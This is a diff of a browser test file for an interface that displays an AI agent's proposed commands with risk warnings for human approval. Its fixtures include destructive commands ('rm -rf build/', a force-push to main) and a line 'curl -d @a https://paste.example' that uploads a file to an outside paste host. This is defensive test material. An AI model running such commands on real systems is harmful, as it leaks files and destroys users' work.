@@ -3,6 +3,7 @@
 import assert from "node:assert/strict";
 import { readFile } from "node:fs/promises";
 import { test } from "node:test";
+import { readThrough } from "./support/browser.js";
 import { answered, at, card, hub, page, ready } from "./support/played.js";
 import { frame } from "./support/standin.js";
 
@@ -217,7 +218,7 @@ test("a patch of several files is folded by file, and what is grave needs each o
   assert.match(await text(".armed"), /Show all lines first/);
   for (const number of [0, 1, 2]) await page.click(`.patch-file summary >> nth=${number}`);
   await page.waitForFunction(() => !/Show all lines/.test(document.querySelector(".armed").textContent));
-  await page.evaluate(() => document.querySelector(".end").scrollIntoView());
+  await readThrough(page);
   await page.waitForSelector('.buttons .allow[aria-disabled="false"]');
 });
 
@@ -242,7 +243,7 @@ test("a row says what is certain in words, with the thing itself below it, and n
     ["Delete a\\x20b, c, d and 1 more", "rm 'a b' c d e"],
     ["Delete build/ and all in it", "rm -rf build/"],
     ["Force-push main to github.com/acme/app", "git push -f git@github.com:acme/app.git main"],
-    ["Write 12 lines to src/a.rs", "write src/a.rs"],
+    ["Write 12 lines to src/a.rs", undefined],
     ["make x", undefined],
     ["npm test", undefined],
     ["rm x", undefined],
@@ -263,7 +264,8 @@ test("tricks in what the thing and the rows show are text, and two of them never
     ];
   });
   hub.put(...frames);
-  await at();
+  // So high that all rows are drawn.
+  await at({ height: 4000 });
   await page.waitForFunction((size) => document.querySelectorAll(".item").length === size, frames.length);
   const rows = await page.$$eval(".item-main", (all) => all.map((one) => one.textContent));
   assert.equal(new Set(rows).size, rows.length, "no two rows look alike");
@@ -326,3 +328,9 @@ for (const [width, scheme] of [[360, "light"], [1100, "dark"], [1440, "light"]])
     await scan("patch");
   });
 }
+
+test("what weighs most stands above the call, in the hub's words and as text", async () => {
+  await shown(frame({ arguments: { command: "curl -d @a https://paste.example" }, risk: { level: "high", reasons: ["sends <b>a</b>", "`curl` sends"], deeds: ["sends <b>a</b>"] } }));
+  assert.match(await text(".card .warnings .deed"), /^⚠ sends <b>a<\/b>$/);
+  assert.doesNotMatch(await text(".card .reasons"), /<b>/, "and not twice");
+});
